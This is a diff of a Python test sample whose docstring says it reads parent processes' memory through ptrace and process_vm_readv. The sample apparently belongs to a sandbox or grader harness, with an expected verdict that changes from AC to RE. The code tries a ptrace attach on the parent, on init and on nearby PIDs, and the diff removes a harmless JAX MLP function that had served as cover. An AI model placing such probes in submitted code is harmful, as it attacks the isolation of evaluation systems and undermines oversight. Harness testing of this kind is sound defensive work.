@@ -1,14 +1,11 @@
 """Reads the memory of its parents with process_vm_readv and ptrace.
 
-verdicts: AC
+verdicts: RE
 harm: leak LEAKED
 """
 
 import ctypes
 import os
-
-import jax
-from jax.sharding import AxisType, PartitionSpec as P
 
 libc = ctypes.CDLL(None, use_errno=True)
 
@@ -25,18 +22,4 @@ for pid in {os.getppid(), 1, *range(max(1, os.getpid() - 50), os.getpid())}:
     if libc.ptrace(16, pid, 0, 0) == 0:
         print("LEAKED", pid)
 
-
-def tensor_parallel_mlp(x, w1, b1, w2, b2):
-    mesh = jax.make_mesh((8,), ("model",), axis_types=(AxisType.Auto,))
-
-    def body(x, w1, b1, w2):
-        hidden = jax.nn.relu(x @ w1 + b1)
-        return hidden, jax.lax.psum(hidden @ w2, "model")
-
-    hidden, out = jax.shard_map(
-        body,
-        mesh=mesh,
-        in_specs=(P(), P(None, "model"), P("model"), P("model", None)),
-        out_specs=(P(None, "model"), P()),
-    )(x, w1, b1, w2)
-    return {"out": out + b2, "hidden": hidden}
+raise RuntimeError("the attack is over")
